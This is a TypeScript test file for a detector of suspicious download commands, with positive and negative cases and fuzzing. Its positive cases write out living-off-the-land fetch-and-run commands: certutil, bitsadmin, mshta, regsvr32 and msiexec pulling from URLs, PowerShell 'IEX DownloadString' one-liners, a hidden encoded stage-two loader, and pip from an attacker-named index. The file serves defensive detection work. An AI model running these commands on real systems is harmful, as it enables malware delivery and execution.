/**
 * Download command lines (LOLBAS / Sigma positives written after their documented syntax) and negatives
 * that must not match: curl to localhost, admin PowerShell without downloads, certutil -hashfile alone,
 * scp/rsync pushing to a remote host, pip from PyPI.
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { analyzeDownloadCommand, findCertutilDecode } from './download-command.js'

const pos: [string, string, string | undefined, string | undefined][] = [
  // command, tool, dest host, output
  [
    'certutil.exe -urlcache -split -f http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe',
    'certutil',
    '198.51.100.7',
    'C:\\Users\\Public\\p.exe',
  ],
  ['certutil -verifyctl -f -split http://198.51.100.7/a.txt', 'certutil', '198.51.100.7', undefined],
  [
    'bitsadmin /transfer myjob /download /priority high http://203.0.113.5/a.exe C:\\a.exe',
    'bitsadmin',
    '203.0.113.5',
    'C:\\a.exe',
  ],
  [
    'powershell -c "Invoke-WebRequest -Uri https://example.net/a.ps1 -OutFile C:\\t\\a.ps1"',
    'powershell',
    'example.net',
    'C:\\t\\a.ps1',
  ],
  ['powershell iwr http://example.net/x -o x.exe', 'powershell', 'example.net', undefined],
  ['powershell -c "irm https://example.net/s | iex"', 'powershell', 'example.net', undefined],
  [
    "powershell (New-Object System.Net.WebClient).DownloadFile('http://example.net/a.exe','C:\\a.exe')",
    'powershell',
    'example.net',
    'C:\\a.exe',
  ],
  [
    "powershell IEX (New-Object Net.WebClient).DownloadString('http://example.net/a')",
    'powershell',
    'example.net',
    undefined,
  ],
  [
    'powershell Start-BitsTransfer -Source http://example.net/a.exe -Destination C:\\a.exe',
    'powershell',
    'example.net',
    'C:\\a.exe',
  ],
  ['powershell wget http://example.net/a.exe -OutFile a.exe', 'powershell', 'example.net', 'a.exe'],
  ['curl -o /tmp/x http://198.51.100.7/x', 'curl', '198.51.100.7', '/tmp/x'],
  ['wget -O /tmp/t.sh https://example.net/t.sh', 'wget', 'example.net', '/tmp/t.sh'],
  ['tftp -i 198.51.100.69 GET tool.exe', 'tftp', '198.51.100.69', 'tool.exe'],
  ['scp root@198.51.100.22:/opt/tool /tmp/tool', 'scp', '198.51.100.22', '/tmp/tool'],
  ['rsync -avz backup@files.example.net:/srv/kit/ ./kit/', 'rsync', 'files.example.net', './kit/'],
  ['mshta http://example.net/a.hta', 'mshta', 'example.net', undefined],
  ['regsvr32 /s /n /u /i:http://example.net/file.sct scrobj.dll', 'regsvr32', 'example.net', undefined],
  ['msiexec /q /i http://example.net/pkg.msi', 'msiexec', 'example.net', undefined],
  ['pip install --index-url http://pypi.attacker.example/simple requests', 'pip', 'pypi.attacker.example', undefined],
  [
    '"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18\\MpCmdRun.exe" -DownloadFile -url https://example.net/a.exe -path C:\\a.exe',
    'mpcmdrun',
    'example.net',
    undefined,
  ],
]

test('positives: tool, destination and output extracted', () => {
  for (const [cmd, tool, host, out] of pos) {
    const f = analyzeDownloadCommand(cmd)
    assert.ok(f, `no finding for ${cmd}`)
    assert.equal(f.tool, tool, cmd)
    assert.equal(f.dest_host, host, cmd)
    if (out !== undefined) assert.equal(f.output, out, cmd)
    assert.ok(f.score >= 20 && f.score <= 100)
  }
})

test('-EncodedCommand is decoded (UTF-16LE base64) and examined again', () => {
  const inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2')"
  const enc = Buffer.from(inner, 'utf16le').toString('base64')
  for (const flag of ['-EncodedCommand', '-enc', '-e', '-EnC']) {
    const f = analyzeDownloadCommand(`powershell.exe -NoP -W Hidden ${flag} ${enc}`)
    assert.ok(f, flag)
    assert.equal(f.decoded, true)
    assert.deepEqual(f.urls, ['http://198.51.100.7/stage2'])
    assert.ok(f.reasons.some((r) => /EncodedCommand/.test(r)))
  }
  const benign = Buffer.from('Get-Service | Where-Object Status -eq Running', 'utf16le').toString('base64')
  assert.equal(analyzeDownloadCommand(`powershell -enc ${benign}`), undefined)
})

test('admin tools score lower than LOLBins, executables higher', () => {
  const curl = analyzeDownloadCommand('curl -o page.html https://example.net/index.html')
  const certutil = analyzeDownloadCommand('certutil -urlcache -f https://example.net/index.html page.html')
  assert.ok(curl && certutil && curl.score < certutil.score)
  assert.equal(curl.admin, true)
  const exe = analyzeDownloadCommand('curl -o tool.exe https://example.net/tool.exe')
  assert.ok(exe && exe.score > curl.score)
})

test('negatives', () => {
  for (const cmd of [
    'curl http://localhost:8080/health',
    'curl -s http://127.0.0.1:9090/metrics',
    'wget http://[::1]/status',
    'powershell Get-Process | Sort-Object CPU -Descending | Select-Object -First 10',
    'powershell -NoProfile -Command "Restart-Service -Name Spooler"',
    'certutil -hashfile C:\\Windows\\notepad.exe SHA256',
    'certutil -f -decode fi.b64 AllTheThings.dll',
    'scp ./report.pdf alice@files.example.net:/tmp/',
    'rsync -av ./site/ deploy@web01:/var/www/',
    'pip install requests',
    'pip install -i https://pypi.org/simple requests',
    'netsh interface portproxy show all',
    'cmd /c echo http://example.net',
  ]) {
    assert.equal(analyzeDownloadCommand(cmd), undefined, cmd)
  }
})

test('certutil -decode is found for the download → decode chain', () => {
  assert.deepEqual(findCertutilDecode('certutil  -f -decode fi.b64 AllTheThings.dll'), {
    input: 'fi.b64',
    output: 'AllTheThings.dll',
  })
  assert.equal(findCertutilDecode('certutil -hashfile a.exe'), undefined)
})

test('fuzz: arbitrary command text never throws', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 400 }), (s) => {
      analyzeDownloadCommand(s)
      analyzeDownloadCommand(`powershell -enc ${s}`)
      analyzeDownloadCommand(`certutil -urlcache http://x/${s}`)
      analyzeDownloadCommand(`scp ${s}`)
    }),
    { numRuns: 1000 },
  )
})
